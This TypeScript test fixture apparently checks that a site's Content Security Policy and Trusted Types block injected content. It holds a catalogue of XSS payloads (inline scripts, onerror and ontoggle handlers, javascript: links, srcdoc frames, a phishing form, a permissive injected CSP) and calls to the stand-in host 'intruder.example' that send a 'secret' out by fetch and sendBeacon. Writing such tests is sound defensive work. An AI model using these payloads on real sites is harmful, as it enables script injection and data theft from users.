/** A host that no page may ask anything of. */
export const intruderHost = 'intruder.example';

const at = `https://${intruderHost}`;

/** Markup that does harm wherever nothing hinders it: what runs of it says its name in `intruder`. */
export const maliciousMarkup = `
  <script>intruder = 'inline script'</script>
  <script src="${at}/x.js"></script>
  <script src="data:text/javascript,intruder='data script'"></script>
  <script type="module" src="${at}/x.mjs"></script>
  <script type="importmap">{ "imports": { "/_astro/": "${at}/" } }</script>
  <img src="/no.png" onerror="intruder = 'onerror'">
  <img src="${at}/spy.png">
  <details open ontoggle="intruder = 'ontoggle'"></details>
  <svg onload="intruder = 'svg onload'"><script>intruder = 'svg script'</script><use href="${at}/x.svg#a"/></svg>
  <a id="lure" href="javascript:intruder = 'javascript link'">x</a>
  <style>body { outline: 9px solid red }</style>
  <link rel="stylesheet" href="${at}/x.css">
  <p id="styled" style="outline: 9px solid red">x</p>
  <base href="${at}/">
  <form id="phish" action="${at}/mail" method="post"><input name="rfc" value="x"></form>
  <object data="${at}/x.swf"></object>
  <embed src="${at}/x.pdf">
  <iframe src="${at}/"></iframe>
  <iframe src="javascript:parent.intruder = 'javascript frame'"></iframe>
  <iframe srcdoc="<script>parent.intruder = 'srcdoc'</script>"></iframe>
  <video src="${at}/x.mp4"></video>
  <meta http-equiv="content-security-policy" content="script-src * 'unsafe-inline'">`;

/** The directives that all of the above and below have to break. */
export const violatedDirectives = [
  ...['script-src-elem', 'script-src-attr', 'style-src-elem', 'style-src-attr', 'img-src', 'media-src', 'object-src'],
  ...['frame-src', 'base-uri', 'form-action', 'connect-src', 'worker-src'],
  ...['require-trusted-types-for', 'trusted-types'],
];

/**
 * What a script that got in would try next; runs in the page.
 * @returns the names of what was not rejected
 */
export async function attemptInjections(host: string): Promise<string[]> {
  const from = `https://${host}`;
  const { trustedTypes } = globalThis as unknown as {
    trustedTypes: { createPolicy: (name: string, rules: object) => { createScriptURL: (url: string) => string } };
  };
  const make = <K extends keyof HTMLElementTagNameMap>(tag: K): HTMLElementTagNameMap[K] =>
    document.body.appendChild(document.createElement(tag));
  const code = 'intruder = "late"';
  const mark = `<img src=x onerror='${code}'>`;
  /* oxlint-disable typescript/no-implied-eval, typescript/no-unsafe-call, typescript/no-deprecated
     -- that they are rejected is the point */
  const tries: Record<string, () => unknown> = {
    innerHTML: () => (make('div').innerHTML = mark),
    outerHTML: () => (make('div').outerHTML = mark),
    insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', mark),
    'document.write': () => document.write(mark),
    parseFromString: () => new DOMParser().parseFromString(mark, 'text/html'),
    createContextualFragment: () => document.createRange().createContextualFragment(mark),
    srcdoc: () => (make('iframe').srcdoc = mark),
    'script text': () => (make('script').text = code),
    'script src': () => (make('script').src = `${from}/x.js`),
    'handler attribute': () => make('div').setAttribute('onclick', code),
    eval: () => void (0, eval)(code),
    Function: () => void new Function(code)(),
    'timer of text': () => setTimeout(code),
    'a policy': () => trustedTypes.createPolicy('intruder', {}),
    'the default policy': () => trustedTypes.createPolicy('default', { createHTML: (text: string) => text }),
    'worker of text': () => new Worker(`data:text/javascript,${code}`),
    'worker of a blob': () => new Worker(URL.createObjectURL(new Blob([code]))),
    'shared worker': () => new SharedWorker('data:text/javascript,'),
    import: () => import(/* @vite-ignore */ `${from}/x.mjs`),
    'import of text': () => import(/* @vite-ignore */ `data:text/javascript,${code}`),
    fetch: () => fetch(`${from}/?secret`, { mode: 'no-cors' }),
  };
  /* oxlint-enable typescript/no-implied-eval, typescript/no-unsafe-call, typescript/no-deprecated */
  // Not within the call of the test's own tool, which may make code.
  await new Promise(requestAnimationFrame);
  const rejected = (attempt: () => unknown): Promise<boolean> =>
    new Promise((resolve) => resolve(attempt())).then(
      () => false,
      () => true,
    );
  const done = await Promise.all(
    Object.entries(tries).map(async ([name, attempt]) => ((await rejected(attempt)) ? '' : name)),
  );
  // These say nothing where they are rejected: that nothing comes of them has to be seen.
  make('script').append(code);
  make('div').setAttribute('style', 'outline: 9px solid red');
  navigator.sendBeacon(`${from}/beacon`, 'secret');
  // Under a name that the page itself may use, and has not used yet.
  const borrowed = trustedTypes.createPolicy('search-worker', { createScriptURL: (url: string) => url });
  new Worker(borrowed.createScriptURL(`data:text/javascript,${code}`)).onerror = null;
  document.querySelector<HTMLAnchorElement>('#lure')?.click();
  document.querySelector<HTMLFormElement>('#phish')?.submit();
  await new Promise(requestAnimationFrame);
  return done.filter(Boolean);
}
